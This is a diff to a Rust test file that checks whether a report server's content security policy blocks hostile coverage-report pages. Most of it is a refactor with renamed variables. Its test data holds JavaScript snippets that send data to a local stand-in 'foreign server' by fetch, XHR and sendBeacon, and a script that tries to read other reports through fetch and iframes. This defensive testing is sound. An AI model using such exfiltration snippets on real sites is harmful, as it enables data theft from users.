@@ -9,26 +9,21 @@ use http_body_util::BodyExt;
 use hyper::header::HeaderValue;
 use serde_json::{Value, json};
 use xtask::lab::http::{Dropped, Serving, forward, full};
-use xtask::lab::parts::{Part, skip_without};
+use xtask::lab::parts::{Part, skip, skip_without};
 use xtask::lab::{covered, node, paths, process};
 
 use crate::{REPOSITORY, SHA, World, setting};
 
 const BROWSER: [Part; 2] = [Part::Node, Part::Chromium];
 
-/// The reports of real tools: the large collection beside the repository where it is there, else the fixtures.
-fn real_reports() -> Vec<(String, PathBuf)> {
-    let corpus = paths::root().join("../shared/corpus");
-    let (folder, below) = match corpus.is_dir() {
-        true => (corpus, "report"),
-        false => (paths::root().join("action/tests/fixtures/totals"), ""),
-    };
-    let mut reports = vec![("sample".to_owned(), paths::root().join("xtask/sample/report"))];
-    for entry in std::fs::read_dir(folder).unwrap() {
-        let path = entry.unwrap().path();
-        let report = path.join(below);
-        let has_page = |entry: std::fs::DirEntry| entry.path().extension().is_some_and(|end| end == "html");
-        if report.is_dir() && std::fs::read_dir(&report).unwrap().any(|entry| has_page(entry.unwrap())) {
+/// The folders with a page: all in `folder`, or the subfolder `subfolder` of each.
+fn reports_in(folder: &Path, subfolder: &str) -> Vec<(String, PathBuf)> {
+    let entries = std::fs::read_dir(folder).unwrap_or_else(|error| panic!("{}: {error}", folder.display()));
+    let is_page = |entry: std::fs::DirEntry| entry.path().extension().is_some_and(|end| end == "html");
+    let mut reports = Vec::new();
+    for path in entries.map(|entry| entry.unwrap().path()) {
+        let report = path.join(subfolder);
+        if report.is_dir() && std::fs::read_dir(&report).unwrap().any(|entry| is_page(entry.unwrap())) {
             reports.push((path.file_name().unwrap().to_string_lossy().into_owned(), report));
         }
     }
@@ -56,8 +51,8 @@ fn without_policy(upstream: &str) -> Serving {
             parts.uri = format!("{upstream}{}", parts.uri).parse().unwrap();
             parts.headers.remove("sec-fetch-site");
             let body = body.collect().await.map_err(|_| Dropped)?.to_bytes();
-            let answer = forward(hyper::Request::from_parts(parts, full(body))).await.map_err(|_| Dropped)?;
-            let (mut parts, body) = answer.into_parts();
+            let response = forward(hyper::Request::from_parts(parts, full(body))).await.map_err(|_| Dropped)?;
+            let (mut parts, body) = response.into_parts();
             for name in ["content-security-policy", "permissions-policy", "cross-origin-opener-policy"] {
                 parts.headers.remove(name);
             }
@@ -75,9 +70,25 @@ fn reports_of_every_tool_work_with_the_security_policy() {
     if skip_without(&BROWSER) {
         return;
     }
+    let mut reports = reports_in(&paths::root().join("action/tests/fixtures/totals"), "");
+    reports.push(("sample".to_owned(), paths::root().join("xtask/sample/report")));
+    compare_with_and_without_policy(&reports);
+}
+
+/// More reports, which are too large for the repository: `COVERED_CORPUS` names a folder with `NAME/report` folders.
+#[test]
+fn reports_of_the_corpus_work_with_the_security_policy() {
+    if skip_without(&BROWSER) {
+        return;
+    }
+    let Some(corpus) = std::env::var_os("COVERED_CORPUS") else { return skip("COVERED_CORPUS is not set") };
+    compare_with_and_without_policy(&reports_in(Path::new(&corpus), "report"));
+}
+
+/// Uses each report with the policy and without it; fails if anything differs.
+fn compare_with_and_without_policy(reports: &[(String, PathBuf)]) {
     let world = World::new(&setting("STORAGE_URL", "memory://"));
     let plain = without_policy(&world.server.url);
-    let reports = real_reports();
     let task: Vec<Value> = reports
         .iter()
         .map(|(name, report)| {
@@ -87,25 +98,25 @@ fn reports_of_every_tool_work_with_the_security_policy() {
         .collect();
     let seen = node::browse_reports(&json!({"reports": task, "attacks": []}));
     let mut wrong = Vec::new();
-    let mut did = BTreeSet::new();
+    let mut steps = BTreeSet::new();
     for report in seen["reports"].as_array().unwrap() {
         let name = report["name"].as_str().unwrap();
         // Ignores files that are missing without the policy, too.
         let missing = texts(&report["missing"]);
-        let there = |problem: &&&str| !missing.iter().any(|path| problem.contains(path));
+        let is_new = |problem: &&&str| !missing.iter().any(|path| problem.contains(path));
         let without = texts(&report["problemsWithout"]);
-        let more: Vec<&str> = texts(&report["problems"]).difference(&without).filter(there).copied().collect();
-        if !more.is_empty() {
-            wrong.push(format!("{name}: {more:#?}"));
+        let added: Vec<&str> = texts(&report["problems"]).difference(&without).filter(is_new).copied().collect();
+        if !added.is_empty() {
+            wrong.push(format!("{name}: {added:#?}"));
         }
         wrong.extend(texts(&report["differences"]).iter().map(|difference| format!("{name}, {difference}")));
-        did.extend(texts(&report["did"]).into_iter().map(|step| (step, name)));
+        steps.extend(texts(&report["steps"]).into_iter().map(|step| (step, name)));
     }
     assert!(wrong.is_empty(), "{} of {} reports:\n{}", wrong.len(), reports.len(), wrong.join("\n"));
     assert_eq!(seen["reports"].as_array().unwrap().len(), reports.len());
     // Each step was possible in enough reports.
     for step in ["filter", "sort", "expand", "file"] {
-        assert!(did.iter().filter(|(done, _)| *done == step).count() > reports.len() / 5, "{step}: {did:?}");
+        assert!(steps.iter().filter(|(done, _)| *done == step).count() > reports.len() / 5, "{step}: {steps:?}");
     }
 }
 
@@ -123,7 +134,7 @@ fn foreign_server() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
 }
 
 /// Scripts of a hostile report on one page, by the path that they request from the foreign server.
-const TRIES: &[(&str, &str)] = &[
+const REQUESTS: &[(&str, &str)] = &[
     ("fetch", "fetch(E + 'fetch', {mode: 'no-cors'})"),
     ("xhr", "const x = new XMLHttpRequest(); x.open('POST', E + 'xhr'); x.send('data')"),
     ("beacon", "navigator.sendBeacon(E + 'beacon', 'data')"),
@@ -163,8 +174,8 @@ const NAVIGATIONS: &[(&str, &str)] = &[
 /// A script that tries to read badges and other reports of the server.
 const READS: &str = "
     const check = (name) => (text) => text.includes('pc_cov') || text.includes('schemaVersion') ? read.push(name) : 0;
-    fetch('/badge/octo/app.json').then((answer) => answer.text()).then(check('badge')).catch(() => {});
-    fetch('/badge/redirect/octo/app/').then((answer) => answer.text()).then(check('redirect')).catch(() => {});
+    fetch('/badge/octo/app.json').then((response) => response.text()).then(check('badge')).catch(() => {});
+    fetch('/badge/redirect/octo/app/').then((response) => response.text()).then(check('redirect')).catch(() => {});
     const html = (frame) => frame.contentDocument.documentElement.outerHTML;
     add('iframe', {src: '/badge/redirect/octo/app/', onload() { try { check('frame')(html(this)) } catch {} }});
     add('button', {textContent: 'more', onclick() {
@@ -181,7 +192,7 @@ fn write_hostile_report(folder: &Path, foreign: &str) {
          const add = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
          const blob = (text, type) => URL.createObjectURL(new Blob([text], {{type}}));"
     );
-    let all: String = TRIES.iter().map(|(_, script)| format!("try {{ {script} }} catch {{}}\n")).collect();
+    let all: String = REQUESTS.iter().map(|(_, script)| format!("try {{ {script} }} catch {{}}\n")).collect();
     let write = |name: &str, script: &str| {
         std::fs::write(folder.join(name), format!("{start}\n{script}\n</script>")).unwrap();
     };
@@ -217,7 +228,7 @@ fn the_security_policy_blocks_a_hostile_report() {
     // Without the policy, each script must work; otherwise the test would prove nothing.
     let (reached, read) = attack(&plain.url());
     let missing: Vec<&str> =
-        TRIES.iter().chain(NAVIGATIONS).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
+        REQUESTS.iter().chain(NAVIGATIONS).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
     assert_eq!(missing, [""; 0], "{reached:?}");
     let readable = ["badge", "frame", "redirect", "window"].map(ToOwned::to_owned);
     assert!(readable.iter().all(|name| read.contains(name)), "{read:?}");
